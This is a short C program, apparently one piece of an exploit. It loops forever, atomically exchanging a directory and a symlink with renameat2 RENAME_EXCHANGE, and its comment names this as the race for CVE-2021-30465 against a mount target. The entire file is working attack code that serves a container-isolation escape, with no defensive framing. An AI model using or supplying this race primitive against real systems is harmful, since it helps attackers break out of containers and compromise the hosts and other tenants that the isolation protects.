/* Swaps two paths atomically, as fast as it can, until killed: a directory and a symlink
 * trade places (renameat2 RENAME_EXCHANGE), the CVE-2021-30465 race against a mount target. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
int main(int argc, char **argv) {
  if (argc != 3) return 2;
  for (;;) renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
